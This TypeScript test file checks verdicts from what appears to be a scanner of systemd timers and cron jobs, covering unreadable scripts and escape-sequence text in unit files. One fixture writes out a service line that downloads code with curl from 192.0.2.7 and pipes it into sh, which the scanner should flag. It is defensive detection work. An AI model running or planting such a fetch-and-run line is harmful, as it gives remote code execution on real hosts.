import { describe, expect, test } from "vitest";
import { memoryHost } from "../hosts/memory.ts";
import { zonesOf } from "../hosts/zoneinfo.ts";
import { readInventory } from "../inventory/inventory.ts";
import { dpkg, script, timed } from "./example-host.ts";
import { judge } from "./judge.ts";
import type { Tree } from "./rule.ts";

const REFUSED = { content: "#!/bin/sh\ntrue\n", mode: 0o700, error: "EACCES" };

/** The verdict of the one activation a tree has. */
function verdictOf(tree: Tree): string | undefined {
  const host = memoryHost(tree);
  const inventory = readInventory(host, { zones: zonesOf(host, null), nowUsec: 1_709_251_200_000_000 });
  const [verdict] = [...judge(inventory).verdicts.values()];
  return verdict?.verdict;
}

const X = "ExecStart=/usr/local/bin/x";
const cron = (command: string, files: Tree = {}): Tree => ({
  "/etc/crontab": `5 * * * * root ${command}\n`,
  ...files,
});

describe("what could not be read decides between ok and unknown (docs/verdicts.md)", () => {
  test.each<[string, Tree, string]>([
    ["the script is read", timed(X, { "/usr/local/bin/x": script() }), "ok"],
    ["the script is refused", timed(X, { "/usr/local/bin/x": REFUSED }), "unknown"],
    ["a read error", timed(X, { "/usr/local/bin/x": { ...REFUSED, error: "EIO" } }), "unknown"],
    [
      "inside sh -c",
      timed("ExecStart=/bin/sh -c '/usr/local/bin/x --quiet'", { "/usr/local/bin/x": REFUSED }),
      "unknown",
    ],
    [
      "given to an interpreter",
      timed("ExecStart=/usr/bin/python3 /srv/x.py", { "/usr/bin/python3": "", "/srv/x.py": REFUSED }),
      "unknown",
    ],
    [
      "a directory that may not be searched",
      timed("ExecStart=/root/bin/x", { "/root": { dir: true, mode: 0o700, error: "EACCES" } }),
      "unknown",
    ],
    [
      "a script that is too long",
      timed(X, { "/usr/local/bin/x": script("true\n".repeat(60_000)) }),
      "unknown",
    ],
    ["a job of cron", cron("/usr/local/bin/x", { "/usr/local/bin/x": REFUSED }), "unknown"],
    ["the unit it starts", timed(X, { "/etc/systemd/system/job.service": REFUSED }), "unknown"],
    ["the program is absent", timed(X), "ok"],
    ["absent behind a condition", timed(`${X}\n[Unit]\nConditionPathExists=/usr/local/bin/x`), "ok"],
    ["a job whose program is absent", cron("test -x /usr/sbin/y && /usr/sbin/y"), "ok"],
    [
      "a package ships it",
      timed("ExecStart=/usr/bin/sudo -n true", { "/usr/bin/sudo": REFUSED, ...dpkg(["/usr/bin/sudo"]) }),
      "ok",
    ],
    [
      "no database tells whether a package ships it",
      timed("ExecStart=/usr/bin/x", { "/usr/bin/x": REFUSED }),
      "ok",
    ],
    [
      "a file further in",
      timed(X, { "/usr/local/bin/x": script(". /etc/x.conf"), "/etc/x.conf": { ...REFUSED, mode: 0o600 } }),
      "ok",
    ],
    [
      "an environment file",
      timed(`EnvironmentFile=/etc/x.env\n${X}`, { "/usr/local/bin/x": script(), "/etc/x.env": REFUSED }),
      "ok",
    ],
    ["a path only known when it runs", cron('sh "$JOB"'), "ok"],
  ])("%s", (_, tree, verdict) => {
    expect(verdictOf(tree)).toBe(verdict);
  });

  test("a finding weighs more than what could not be read", () => {
    const fetches = "ExecStartPre=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'";
    expect(verdictOf(timed(`${fetches}\n${X}`, { "/usr/local/bin/x": REFUSED }))).toBe("alert");
  });
});

test("what a rule says of one place through many units counts once, and crowds nothing out", () => {
  const units = Array.from({ length: 30 }, (_, at) => `u${at}.service`);
  const host = memoryHost(
    timed(`${X}\n[Unit]\nWants=${units.join(" ")} z.service`, {
      ...Object.fromEntries(units.map((name) => [`/etc/systemd/system/${name}`, `[Service]\n${X}\n`])),
      "/etc/systemd/system/z.service": "# Grü\u001b[2Jße\n[Service]\nExecStart=/usr/bin/true\n",
      "/etc/systemd/system/service.d/x.conf": "[Unit]\nDescription=\u001b[2Jfine\n",
    }),
  );
  const inventory = readInventory(host, { zones: zonesOf(host, null), nowUsec: 1_709_251_200_000_000 });
  const [judged] = [...judge(inventory).verdicts.values()];
  const places = judged?.findings
    .filter(({ rule }) => rule.id === "deceptive-text")
    .map(({ accusation }) => accusation.evidence[0]?.span.path);
  expect(places?.sort()).toEqual(["/etc/systemd/system/service.d/x.conf", "/etc/systemd/system/z.service"]);
});
